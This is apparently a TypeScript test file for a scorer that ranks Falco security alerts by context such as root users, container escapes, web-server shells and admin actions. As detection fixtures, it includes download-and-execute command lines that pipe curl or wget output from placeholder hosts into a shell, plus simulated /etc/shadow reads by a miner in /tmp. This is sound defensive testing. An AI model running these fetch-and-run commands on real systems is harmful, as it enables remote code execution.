import { describe, expect, it } from 'vitest';
import { assessRisk, riskLevel } from './risk';
import { CONTEXT_RULES, isDownloadAndExecute } from './riskRules';
import { AnalysisSession } from '../engine/store/session';
import { ingestText } from '../ingest';
import { makeAlert } from '../testing/alerts';
import type { Alert, OutputFields, Risk } from '../model';

const base = { priority: 'Notice' as const, tags: [] as string[] };

function factorIds(fields: OutputFields, overrides: Partial<Alert> = {}): string[] {
  return assessRisk(makeAlert({ ...base, outputFields: fields, ...overrides })).factors.map((f) => f.id);
}

const REAL_EVENT_GENERATOR: OutputFields = {
  'container.id': '2ae6a7f15b6e',
  'container.name': 'elastic-package-service-10413-falco-event-generator-1',
  'fd.name': '/etc/shadow',
  'proc.cmdline': 'event-generator run --loop',
  'proc.exepath': '/bin/event-generator',
  'proc.name': 'event-generator',
  'proc.pname': 'containerd-shim',
  'user.uid': 0,
};

type FiresRow = [id: string, fields: OutputFields, delta: number, overrides?: Partial<Alert>];

describe('risk factors: one row per factor', () => {
  // Each row fails when its factor is removed or its evidence stops naming the field and value.
  const FIRES: FiresRow[] = [
    ['root-user', { 'user.uid': 0 }, 10],
    ['root-user', { 'user.name': 'root' }, 10],
    ['container-escape', {}, 12, { tags: ['T1611'] }],
    ['privileged-container', { 'container.privileged': true }, 12],
    ['host-namespaces', { 'ka.req.pod.host_network': 'true' }, 10],
    ['interactive-tty', { 'proc.tty': 34816 }, 8],
    ['kube-system', { 'k8s.ns.name': 'kube-system' }, 8],
    ['kube-system', { 'ka.target.namespace': 'kube-system' }, 8],
    ['temp-dir-exec', { 'proc.exepath': '/tmp/x/miner' }, 12],
    ['temp-dir-exec', { 'proc.exepath': '/dev/shm/payload' }, 12],
    ['public-destination', { 'fd.rip': '8.8.8.8' }, 10],
    ['web-server-shell', { 'proc.name': 'bash', 'proc.pname': 'nginx' }, 15],
    ['download-and-execute', { 'proc.cmdline': 'sh -c curl -fsSL http://203.0.113.9/i.sh | sh' }, 20],
    ['download-and-execute', { 'proc.pcmdline': 'bash -c wget -qO- http://x.example/a | /bin/bash' }, 20],
    ['download-and-execute', { 'proc.cmdline': 'sh -c "$(curl -fsSL http://x.example/a)"' }, 20],
    ['anonymous-k8s-user', { 'ka.user.name': 'system:anonymous' }, 12],
    ['test-tooling', { 'proc.exepath': '/bin/event-generator', 'proc.cmdline': 'event-generator run syscall --loop', 'k8s.pod.name': 'falco-event-generator-7c9' }, -35],
    ['test-tooling', { 'container.image.repository': 'docker.io/falcosecurity/event-generator' }, -35],
    ['test-tooling', { 'proc.name': 'event-generator', 'container.name': 'falco-event-generator-5d8f' }, -35],
    ['test-tooling', { 'ka.user.name': 'system:serviceaccount:default:falco-event-generator', 'ka.target.name': 'vanilla-deployment' }, -35],
    ['test-payload', { 'proc.name': 'proc.name', 'proc.cmdline': 'proc.cmdline', 'evt.type': 'evt.type' }, -40],
    ['test-payload', { 'proc.name': 'falcosidekick' }, -40, { output: 'This is a test from falcosidekick' }],
    ['test-payload', { 'proc.name': 'bash' }, -40, { output: 'Notice A shell was spawned (user=%user.name)' }],
    ['health-probe', { 'ka.uri': '/livez', 'ka.verb': 'get' }, -30],
    ['health-probe', { 'ka.uri': '/readyz?verbose' }, -30],
    ['default-binding', { 'ka.verb': 'get', 'ka.auth.reason': 'RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"' }, -10],
    ['falco-own-pod', { 'container.image.repository': 'docker.io/falcosecurity/falco' }, -15, { rule: 'Contact K8S API Server From Container' }],
    ['deprecated-rule', {}, -5, { rule: 'Disallowed SSH Connection' }],
    ['image-build', { 'proc.name': 'apt-get', 'proc.pname': 'buildkit-runc', 'container.image.repository': 'moby/buildkit' }, -15],
    ['image-build', { 'proc.name': 'apk', 'container.image.repository': 'gcr.io/kaniko-project/executor' }, -15],
    ['image-build', { 'proc.name': 'apt-get', 'proc.pname': 'buildkit-runc', 'proc.pexepath': '/usr/bin/buildkit-runc', 'container.name': 'buildkitd' }, -15],
    ['ci-runner', { 'container.image.repository': 'gitlab/gitlab-runner' }, -12],
    ['ci-runner', { 'container.name': 'jnlp', 'k8s.pod.name': 'jenkins-agent-x7k2', 'k8s.ns.name': 'jenkins' }, -12],
    ['request-denied', { 'ka.response.code': '403' }, -10],
    ['admin-identity', { 'ka.user.name': 'kubernetes-admin' }, 15],
    ['admin-identity', { 'ka.user.groups': '[system:masters,system:authenticated]' }, 15],
    ['admin-identity', { 'ct.user.identitytype': 'Root' }, 15],
    ['admin-identity', { 'ct.user.arn': 'arn:aws:iam::123456789012:root' }, 15],
    ['admin-identity', { 'ka.auth.reason': 'RBAC: allowed by ClusterRoleBinding "ops" of ClusterRole "cluster-admin" to User "ana"' }, 15],
    ['grants-admin', { 'ka.req.binding.role': 'cluster-admin' }, 12],
    ['grants-admin', { 'okta.evt.type': 'user.account.privilege.grant' }, 12],
    ['grants-admin', { 'github.collaborator.role': 'admin' }, 12],
    ['grants-admin', { 'gcp.policyDelta': '[{"action":"ADD","member":"user:x@example.com","role":"roles/owner"}]' }, 12],
    ['person-from-internet', { 'gcp.user': 'ana@example.com', 'gcp.callerIP': '41.45.115.69' }, 10],
    ['person-from-internet', { 'ka.user.name': 'ana@example.com', 'ka.sourceips': '[8.8.4.4]' }, 10],
    ['workload-from-inside', { 'ka.user.name': 'system:serviceaccount:ci:deployer', 'ka.sourceips': '[10.1.2.3]' }, -8],
    ['control-plane', { 'ka.user.name': 'system:kube-controller-manager' }, -10],
    ['control-plane', { 'ka.user.name': 'system:serviceaccount:kube-system:deployment-controller' }, -10],
    ['interactive-exec', { 'ka.target.subresource': 'exec' }, 15],
    ['interactive-exec', { 'ka.target.subresource': 'attach' }, 15],
    ['destroys-identity-or-logs', { 'ka.verb': 'delete', 'ka.target.resource': 'clusterrolebindings' }, 12],
    ['destroys-identity-or-logs', { 'ct.name': 'StopLogging' }, 12],
    ['destroys-identity-or-logs', { 'gcp.methodName': 'google.logging.v2.ConfigServiceV2.DeleteSink' }, 12],
    ['destroys-identity-or-logs', { 'okta.evt.type': 'user.lifecycle.deactivate' }, 12],
    ['public-exposure', { 'gcp.policyDelta': '[{"action":"ADD","member":"allUsers","role":"roles/storage.objectViewer"}]' }, 10],
    ['public-exposure', { 'ka.req.service.type': 'NodePort' }, 10],
    ['public-exposure', {}, 10, { rule: 'Private Repository Becoming Public', source: 'github' }],
    ['person-from-internet', { 'ct.user.identitytype': 'IAMUser', 'ct.srcip': '221.113.81.87' }, 10],
    ['workload-from-inside', { 'gcp.user': 'deployer@proj.iam.gserviceaccount.com', 'gcp.callerIP': '10.128.0.5' }, -8],
  ];

  it('has a raising or lowering row for every context rule', () => {
    const covered = new Set(FIRES.map(([id]) => id));
    expect(CONTEXT_RULES.map((r) => r.id).filter((id) => !covered.has(id))).toEqual([]);
  });

  it.each(FIRES)('%s fires on %j', (id, fields, delta, overrides = {}) => {
    const alert = makeAlert({ ...base, outputFields: fields, ...overrides });
    const factor = assessRisk(alert).factors.find((f) => f.id === id);
    expect(factor).toBeDefined();
    expect(factor!.delta).toBe(delta);
    if (factor!.field === 'rule') expect(factor!.value).toBe(alert.rule);
    else if (factor!.field === 'tags') expect(factor!.value).toBe(alert.tags.join(', '));
    else if (factor!.field === 'output') expect(alert.output).toContain(factor!.value);
    else {
      expect(Object.keys(fields)).toContain(factor!.field);
      expect(factor!.value).toBe(String(fields[factor!.field]));
    }
  });

  it.each<[string, OutputFields, Partial<Alert>?]>([
    ['root-user', { 'user.uid': 1000, 'user.name': 'app' }],
    ['interactive-tty', { 'proc.tty': 0 }],
    ['public-destination', { 'fd.rip': '10.0.0.8' }],
    ['public-destination', { 'fd.rip': '169.254.169.254' }],
    ['public-destination', { 'fd.rip': '<NA>' }],
    ['web-server-shell', { 'proc.name': 'bash', 'proc.pname': 'sshd' }],
    ['download-and-execute', { 'proc.cmdline': 'curl -o /tmp/app.tgz https://example.com/app.tgz' }],
    ['download-and-execute', { 'proc.cmdline': 'sh -c cat /etc/hosts | grep curl' }],
    ['image-build', { 'proc.name': 'apt-get', 'proc.pname': 'bash' }],
    // A builder's name alone, or with a path the process chose, or run from a temporary directory
    ['image-build', { 'proc.name': 'apt-get', 'proc.pname': 'buildkit-runc' }],
    ['image-build', { 'proc.name': 'apt-get', 'proc.pname': 'buildkitd', 'proc.pexepath': '/usr/bin/buildkitd', 'container.image.repository': 'evil/miner' }],
    ['image-build', { 'proc.name': 'apt-get', 'proc.pname': 'dockerd', 'proc.pexepath': '/tmp/dockerd', 'container.image.repository': 'moby/buildkit' }],
    ['image-build', { 'proc.name': 'apt-get', 'container.image.repository': 'evil.example/moby/buildkit' }],
    ['image-build', { 'proc.name': 'apt-get', 'container.name': 'kaniko' }],
    ['ci-runner', { 'k8s.pod.name': 'jenkins-1' }],
    ['ci-runner', { 'container.name': 'gitlab-runner', 'proc.pname': 'gitlab-runner' }],
    ['ci-runner', { 'container.image.repository': 'evil/gitlab-runner' }],
    ['ci-runner', { 'container.image.repository': 'gitlab/gitlab-runner', 'proc.exepath': '/tmp/.x/xmrig', 'proc.pname': 'gitlab-runner' }],
    ['request-denied', { 'ka.response.code': '200' }],
    ['ci-runner', { 'proc.pname': 'jenkins', 'proc.name': 'bash' }],
    // A name alone is never a drill, and evidence against cancels the rest.
    ['test-tooling', { 'proc.name': 'event-generator' }],
    ['test-tooling', { 'proc.exepath': '/bin/event-generator' }],
    // Name, install path and command line are all chosen by the process itself.
    ['test-tooling', { 'proc.name': 'event-generator', 'proc.exepath': '/bin/event-generator', 'proc.cmdline': 'event-generator run syscall --loop' }],
    ['test-tooling', { 'proc.name': 'event-generator', 'proc.exepath': '/tmp/.x/event-generator', 'proc.cmdline': 'event-generator run syscall' }],
    ['test-tooling', { ...REAL_EVENT_GENERATOR, 'container.image.repository': 'evil/miner' }],
    ['test-tooling', { 'container.image.repository': 'evil.example/falcosecurity/event-generator' }],
    ['test-tooling', { 'ka.user.name': 'jane', 'ka.target.name': 'vanilla-deployment' }],
    ['test-payload', { 'proc.cmdline': 'proc.cmdline', 'user.uid': 0, 'evt.type': 'execve', 'proc.name': 'sh' }],
    ['test-payload', { 'proc.cmdline': 'echo %proc.name' }, { output: 'Notice shell (command=echo %proc.name)' }],
    ['test-payload', { 'proc.cmdline': 'This is a test from falcosidekick' }, { output: 'Notice shell (command=This is a test from falcosidekick)' }],
    ['health-probe', { 'ka.uri': '/livez', 'ka.verb': 'delete' }],
    // the probe factor explains why a probe is anonymous: not counted twice against it
    ['anonymous-k8s-user', { 'ka.user.name': 'system:anonymous', 'ka.uri': '/livez', 'ka.verb': 'get' }],
    ['health-probe', { 'ka.uri': '/api/v1/secrets' }],
    ['default-binding', { 'ka.verb': 'create', 'ka.auth.reason': 'RBAC: allowed by ClusterRoleBinding "system:public-info-viewer"' }],
    ['falco-own-pod', { 'container.image.repository': 'docker.io/falcosecurity/falco' }, { rule: 'Write below root' }],
    ['falco-own-pod', { 'container.image.repository': 'evil/falcosecurity/falco' }, { rule: 'Contact K8S API Server From Container' }],
    ['deprecated-rule', {}, { rule: 'Terminal shell in container' }],
    ['admin-identity', { 'ka.user.name': 'jane' }],
    ['person-from-internet', { 'ka.user.name': 'system:serviceaccount:ci:deployer', 'ka.sourceips': '[8.8.4.4]' }],
    ['person-from-internet', { 'gcp.user': 'ana@example.com', 'gcp.callerIP': '10.0.0.9' }],
    ['person-from-internet', { 'okta.actor.name': 'ana@example.com', 'okta.client.ip': '8.8.4.4' }],
    ['workload-from-inside', { 'ka.user.name': 'system:serviceaccount:ci:deployer', 'ka.sourceips': '[8.8.4.4]' }],
    ['control-plane', { 'ka.user.name': 'system:serviceaccount:kube-system:my-addon' }],
    ['control-plane', { 'ka.user.name': 'system:serviceaccount:default:deployment-controller' }],
    ['interactive-exec', { 'ka.target.subresource': 'log' }],
    ['destroys-identity-or-logs', { 'ka.verb': 'delete', 'ka.target.resource': 'pods' }],
    ['destroys-identity-or-logs', { 'ka.verb': 'get', 'ka.target.resource': 'clusterrolebindings' }],
    ['public-exposure', { 'ka.req.service.type': 'ClusterIP' }],
    ['public-exposure', { 'gcp.policyDelta': '[{"action":"REMOVE","member":"allUsers","role":"roles/storage.objectViewer"},{"action":"ADD","member":"user:a@example.com","role":"roles/viewer"}]' }],
    ['grants-admin', { 'gcp.policyDelta': '[{"action":"REMOVE","member":"user:a@example.com","role":"roles/owner"}]' }],
    ['person-from-internet', { 'ct.user.identitytype': 'AssumedRole', 'ct.srcip': '221.113.81.87' }],
  ])('%s does not fire on %j', (id, fields, overrides = {}) => {
    expect(factorIds(fields, overrides)).not.toContain(id);
  });

  it('weighs only the heaviest tactic, naming the tags', () => {
    const risk = assessRisk(makeAlert({ ...base, tags: ['mitre_execution', 'mitre_privilege_escalation', 'T1055.008'] }));
    const tactics = risk.factors.filter((f) => f.id === 'tactic');
    expect(tactics).toHaveLength(1);
    expect(tactics[0]!.label).toMatch(/privilege escalation/);
    expect(tactics[0]!.delta).toBe(15);
  });

  it("weighs the rule's tactic tag, not another tactic of its technique tag", () => {
    // Upstream tags Contact K8S API Server From Container with discovery and T1565 (an Impact technique).
    const risk = assessRisk(makeAlert({ ...base, tags: ['container', 'k8s', 'mitre_discovery', 'T1565'] }));
    const tactic = risk.factors.find((f) => f.id === 'tactic');
    expect(tactic?.label).toBe('Tactic: discovery');
    expect(risk.factors.map((f) => f.label).join(' ')).not.toMatch(/impact/i);
  });

  it('scores tags inferred from the catalog at half weight, under their own label, and never as context', () => {
    const own = assessRisk(makeAlert({ ...base, tags: ['mitre_privilege_escalation', 'T1611'] }));
    const inferred = assessRisk(makeAlert({ ...base, tags: ['mitre_privilege_escalation', 'T1611'], tagsInferred: true }));
    expect(own.factors.map((f) => f.id)).toEqual(expect.arrayContaining(['tactic', 'container-escape']));
    const ids = inferred.factors.map((f) => f.id);
    expect(ids).toContain('tactic-inferred');
    expect(ids).not.toContain('tactic');
    expect(ids).not.toContain('container-escape');
    const factor = inferred.factors.find((f) => f.id === 'tactic-inferred')!;
    expect(factor.delta).toBe(8);
    expect(factor.field).toBe('rule');
    expect(factor.reason).toMatch(/carries no tags/);
  });

  it('counts a container escape technique on top of its tactic', () => {
    const ids = assessRisk(makeAlert({ ...base, tags: ['mitre_privilege_escalation', 'T1611'] })).factors.map((f) => f.id);
    expect(ids).toEqual(expect.arrayContaining(['tactic', 'container-escape']));
  });

  it('sums factors into a clamped score and a level', () => {
    const risk = assessRisk(
      makeAlert({ priority: 'Critical', tags: ['mitre_privilege_escalation'], outputFields: { 'user.uid': 0, 'proc.tty': 1, 'container.privileged': true, 'k8s.ns.name': 'kube-system' } }),
    );
    expect(risk.score).toBe(Math.min(100, risk.factors.reduce((s, f) => s + f.delta, 0)));
    expect(risk.level).toBe('critical');
    const drill = assessRisk(makeAlert({ priority: 'Debug', outputFields: REAL_EVENT_GENERATOR }));
    expect(drill.score).toBe(0);
  });

  it.each([[95, 'critical'], [80, 'critical'], [79, 'high'], [60, 'high'], [45, 'medium'], [20, 'low'], [19, 'info'], [0, 'info']] as const)(
    'score %i is %s',
    (score, level) => expect(riskLevel(score)).toBe(level),
  );
});

describe('download and execute', () => {
  it.each([
    ['curl -s http://x/a.sh | sh', true],
    ['wget -qO- http://x/a | sudo bash', true],
    ['curl http://x/a.py | python3 -', true],
    ['bash <(curl -s http://x/a)', true],
    ['curl -o a.tgz http://x/a.tgz', false],
    ['cat notes | sh', false],
    ['sh -c ls | grep wget', false],
  ])('%s -> %s', (cmdline, expected) => expect(isDownloadAndExecute(cmdline)).toBe(expected));
});

/** Score NDJSON records the way the app does: ingest, restore (tags from the catalog) and group. */
function scored(...records: object[]): Risk[] {
  const session = new AnalysisSession();
  ingestText(records.map((r) => JSON.stringify(r)).join('\n'), 'pairs.ndjson', {
    alert: (a) => void session.addAlert(a),
    problem: (p) => session.addProblem(p),
  });
  const alerts = [...Array(records.length).keys()].map((id) => session.alertAt(id));
  return alerts.map((a) => assessRisk(a));
}

const shadowRead = (name: string) => ({
  output: `12:00:00.000000000: Warning Sensitive file opened for reading by non-trusted program (file=/etc/shadow process=${name} proc_exepath=/tmp/.x/${name} command=${name} -B)`,
  priority: 'Warning',
  rule: 'Read sensitive file untrusted',
  source: 'syscall',
  time: '2026-11-30T12:00:00.000000000Z',
  tags: ['T1555', 'container', 'filesystem', 'host', 'maturity_stable', 'mitre_credential_access'],
  output_fields: {
    'container.id': '4f1e2d3c4b5a',
    'container.image.repository': 'evil/miner',
    'evt.type': 'openat',
    'fd.name': '/etc/shadow',
    'proc.cmdline': `${name} -B`,
    'proc.exepath': `/tmp/.x/${name}`,
    'proc.name': name,
    'proc.pname': 'sh',
    'proc.tty': 0,
    'user.loginuid': -1,
    'user.name': 'root',
    'user.uid': 0,
  },
});

describe('ordering on realistic pairs', () => {
  it('an event-generator name in /tmp with an unknown image scores like any other name', () => {
    const [named, other] = scored(shadowRead('event-generator'), shadowRead('kworkerd'));
    expect(named!.score).toBe(other!.score);
    expect(named!.factors.map((f) => f.id)).not.toContain('test-tooling');
    expect(named!.level).toBe('high');
  });

  it('a package manager whose parent is renamed to a build tool from /tmp in an unknown image scores no lower', () => {
    const install = (pname: string, pexepath: string, image = 'evil/miner') => ({
      output: `12:00:00.000000000: Error Package management process launched in container (process=apt-get parent=${pname} image=${image})`,
      priority: 'Error',
      rule: 'Launch Package Management Process in Container',
      source: 'syscall',
      time: '2026-11-30T12:00:00.000000000Z',
      tags: ['T1505', 'container', 'maturity_incubating', 'mitre_persistence', 'process', 'software_mgmt'],
      output_fields: {
        'container.id': '4f1e2d3c4b5a',
        'container.image.repository': image,
        'container.name': 'web',
        'proc.cmdline': 'apt-get install -y nmap',
        'proc.exepath': '/usr/bin/apt-get',
        'proc.name': 'apt-get',
        'proc.pname': pname,
        'proc.pexepath': pexepath,
        'user.uid': 0,
      },
    });
    const [renamedTmp, renamedBin, plain, real] = scored(
      install('buildkitd', '/tmp/.x/buildkitd'),
      install('buildkit-runc', '/usr/bin/buildkit-runc'),
      install('bash', '/bin/bash'),
      install('buildkit-runc', '/usr/bin/buildkit-runc', 'moby/buildkit'),
    );
    expect(renamedTmp!.score).toBeGreaterThanOrEqual(plain!.score);
    expect(renamedBin!.score).toBeGreaterThanOrEqual(plain!.score);
    expect([renamedTmp, renamedBin, plain].flatMap((r) => r!.factors.map((f) => f.id))).not.toContain('image-build');
    expect(real!.factors.map((f) => f.id)).toContain('image-build');
    expect(real!.score).toBeLessThan(plain!.score);
  });

  it('a pod merely named like a CI runner scores no lower than any other pod', () => {
    const shell = (pod: string, ns: string, image: string) => ({
      output: `12:00:00.000000000: Notice A shell was spawned in a container with an attached terminal (pod=${pod})`,
      priority: 'Notice',
      rule: 'Terminal shell in container',
      source: 'syscall',
      time: '2026-11-30T12:00:00.000000000Z',
      tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'],
      output_fields: { 'container.id': '4f1e2d3c4b5a', 'container.image.repository': image, 'k8s.pod.name': pod, 'k8s.ns.name': ns, 'proc.name': 'bash', 'proc.tty': 34816 },
    });
    const [named, other] = scored(shell('jenkins-build-1', 'default', 'evil/miner'), shell('web-1', 'default', 'evil/miner'));
    expect(named!.score).toBe(other!.score);
  });

  it('the real event-generator (image, install path, command line) still scores as a drill', () => {
    const [drill, attack] = scored(
      {
        output: '12:00:00.000000000: Warning Sensitive file opened for reading by non-trusted program (file=/etc/shadow process=event-generator)',
        priority: 'Warning',
        rule: 'Read sensitive file untrusted',
        source: 'syscall',
        time: '2026-11-30T12:00:00.000000000Z',
        tags: ['T1555', 'container', 'filesystem', 'host', 'maturity_stable', 'mitre_credential_access'],
        output_fields: {
          ...REAL_EVENT_GENERATOR,
          'container.image.repository': 'docker.io/falcosecurity/event-generator',
          'proc.tty': 0,
          'user.name': 'root',
        },
      },
      shadowRead('kworkerd'),
    );
    expect(drill!.factors.map((f) => f.id)).toContain('test-tooling');
    expect(drill!.level).toBe('low');
    expect(drill!.score).toBeLessThan(attack!.score - 30);
  });

  it('download-and-execute from a web server is High or Critical', () => {
    const [rce] = scored({
      output: '12:00:00.000000000: Notice Shell spawned by untrusted binary (parent_exe=/usr/sbin/nginx process=sh parent=nginx command=sh -c curl -s http://203.0.113.7/x.sh | sh)',
      priority: 'Notice',
      rule: 'Run shell untrusted',
      source: 'syscall',
      time: '2026-11-30T12:00:00.000000000Z',
      tags: ['T1059.004', 'container', 'host', 'maturity_stable', 'mitre_execution', 'process', 'shell'],
      output_fields: {
        'container.id': '0a1b2c3d4e5f',
        'evt.type': 'execve',
        'proc.cmdline': 'sh -c curl -s http://203.0.113.7/x.sh | sh',
        'proc.exepath': '/bin/dash',
        'proc.name': 'sh',
        'proc.pexe': '/usr/sbin/nginx',
        'proc.pexepath': '/usr/sbin/nginx',
        'proc.pcmdline': 'nginx: worker process',
        'proc.pname': 'nginx',
        'proc.tty': 0,
        'user.loginuid': -1,
        'user.name': 'www-data',
        'user.uid': 33,
      },
    });
    expect(['high', 'critical']).toContain(rce!.level);
    expect(rce!.factors.map((f) => f.id)).toEqual(expect.arrayContaining(['web-server-shell', 'download-and-execute']));
  });

  it('a harmless /livez probe ranks below an interactive exec by an administrator', () => {
    const [probe, exec] = scored(
      {
        output: '2022-02-15T14:03:12.123639040+0000: Warning Request by anonymous user allowed (user=system:anonymous verb=get uri=/livez reason=RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"))',
        priority: 'Warning',
        rule: 'Anonymous Request Allowed',
        source: 'k8s_audit',
        tags: ['k8s'],
        time: '2022-02-15T14:03:12.123639040Z',
        output_fields: {
          'ka.auth.reason': 'RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"',
          'ka.uri': '/livez',
          'ka.user.name': 'system:anonymous',
          'ka.verb': 'get',
        },
      },
      {
        output: '09:29:46.302906000: Notice Attach/Exec to pod (user=kubernetes-admin pod=nginx-676b6c5bbc-4xc6t resource=pods ns=hello-app action=exec command=sh)',
        priority: 'Notice',
        rule: 'Attach/Exec Pod',
        source: 'k8s_audit',
        tags: ['k8s'],
        time: '2025-02-10T09:29:46.302906000Z',
        output_fields: {
          'ka.target.name': 'nginx-676b6c5bbc-4xc6t',
          'ka.target.namespace': 'hello-app',
          'ka.target.resource': 'pods',
          'ka.target.subresource': 'exec',
          'ka.uri.param[command]': 'sh',
          'ka.user.name': 'kubernetes-admin',
        },
      },
    );
    expect(probe!.factors.map((f) => f.id)).toEqual(expect.arrayContaining(['health-probe', 'default-binding']));
    expect(exec!.factors.map((f) => f.id)).toEqual(expect.arrayContaining(['admin-identity', 'interactive-exec']));
    expect(probe!.score).toBeLessThan(exec!.score);
    expect(probe!.level).toBe('info');
  });

  /** One k8s audit record as Falco's k8saudit plugin prints it. */
  const k8sAudit = (rule: string, priority: string, fields: Record<string, string>) => ({
    output: `12:00:00.000000000: ${priority} ${rule} (user=${fields['ka.user.name']} verb=${fields['ka.verb']} resource=${fields['ka.target.resource']})`,
    priority,
    rule,
    source: 'k8s_audit',
    time: '2026-11-30T12:00:00.000000000Z',
    tags: ['k8s'],
    output_fields: fields,
  });
  const adminExec = (sourceIp: string) =>
    k8sAudit('Attach/Exec Pod', 'Notice', {
      'ka.user.name': 'kubernetes-admin',
      'ka.user.groups': '[system:masters,system:authenticated]',
      'ka.verb': 'create',
      'ka.target.resource': 'pods',
      'ka.target.subresource': 'exec',
      'ka.target.name': 'payments-7d9f-x2',
      'ka.target.namespace': 'payments',
      'ka.uri.param[command]': 'sh',
      'ka.sourceips': `[${sourceIp}]`,
    });

  it('audit: an admin exec from a public IP > the same from a private IP > a controller reading a configmap', () => {
    const [fromInternet, fromInside, controller] = scored(
      adminExec('81.2.69.142'),
      adminExec('10.0.4.17'),
      k8sAudit('Disallowed K8s User', 'Warning', {
        'ka.user.name': 'system:kube-controller-manager',
        'ka.verb': 'get',
        'ka.target.resource': 'configmaps',
        'ka.target.name': 'kube-root-ca.crt',
        'ka.target.namespace': 'payments',
        'ka.sourceips': '[10.0.0.2]',
      }),
    );
    expect(fromInternet!.factors.map((f) => f.id)).toEqual(expect.arrayContaining(['admin-identity', 'interactive-exec', 'person-from-internet']));
    expect(fromInternet!.score).toBeGreaterThan(fromInside!.score);
    expect(fromInside!.score).toBeGreaterThan(controller!.score);
    expect(['high', 'critical']).toContain(fromInternet!.level);
    expect(controller!.factors.map((f) => f.id)).toContain('control-plane');
  });

  it('audit: a person deleting a ClusterRoleBinding or an IAM user ranks above listing pods or buckets', () => {
    const jane = { 'ka.user.name': 'jane@example.com', 'ka.sourceips': '[10.0.4.17]' };
    const [deleteBinding, listPods] = scored(
      k8sAudit('Disallowed K8s User', 'Warning', { ...jane, 'ka.verb': 'delete', 'ka.target.resource': 'clusterrolebindings', 'ka.target.name': 'ops-admins' }),
      k8sAudit('Disallowed K8s User', 'Warning', { ...jane, 'ka.verb': 'list', 'ka.target.resource': 'pods', 'ka.target.namespace': 'payments' }),
    );
    expect(deleteBinding!.factors.map((f) => f.id)).toContain('destroys-identity-or-logs');
    expect(deleteBinding!.score).toBeGreaterThan(listPods!.score);
    const cloudtrail = (name: string) => ({
      output: `12:00:00.000000000: Notice CloudTrail call (user=ana call=${name})`,
      priority: 'Notice',
      rule: 'Watched CloudTrail call',
      source: 'aws_cloudtrail',
      time: '2026-11-30T12:00:00.000000000Z',
      tags: ['cloud', 'aws'],
      output_fields: { 'ct.user': 'ana', 'ct.user.identitytype': 'IAMUser', 'ct.name': name, 'ct.srcip': '81.2.69.142', 'ct.region': 'eu-west-1' },
    });
    const [deleteUser, listBuckets] = scored(cloudtrail('DeleteUser'), cloudtrail('ListBuckets'));
    expect(deleteUser!.factors.map((f) => f.id)).toContain('destroys-identity-or-logs');
    expect(deleteUser!.score).toBeGreaterThan(listBuckets!.score);
  });

  it('audit: the anonymous /livez probe ranks below an interactive admin exec even from inside', () => {
    const [probe, exec] = scored(
      k8sAudit('Anonymous Request Allowed', 'Warning', { 'ka.user.name': 'system:anonymous', 'ka.verb': 'get', 'ka.uri': '/livez', 'ka.target.resource': '', 'ka.sourceips': '[81.2.69.142]' }),
      adminExec('10.0.4.17'),
    );
    expect(probe!.score).toBeLessThan(exec!.score);
  });

  it('an alert without tags is scored on the catalog tactic of its rule only as inferred', () => {
    const [risk] = scored({
      output: '19:27:21.038853452: Notice Unexpected connection to K8s API Server from container',
      priority: 'Notice',
      rule: 'Contact K8S API Server From Container',
      time: '2021-04-10T19:27:21.038853452Z',
      output_fields: { 'container.id': '12fc4de5ccc3', 'container.image.repository': 'devopps/falco-pod-delete', 'k8s.ns.name': 'openfaas-fn' },
    });
    const ids = risk!.factors.map((f) => f.id);
    expect(ids).toContain('tactic-inferred');
    expect(ids).not.toContain('tactic');
    expect(risk!.factors.map((f) => f.label).join(' ')).not.toMatch(/impact/i);
  });
});
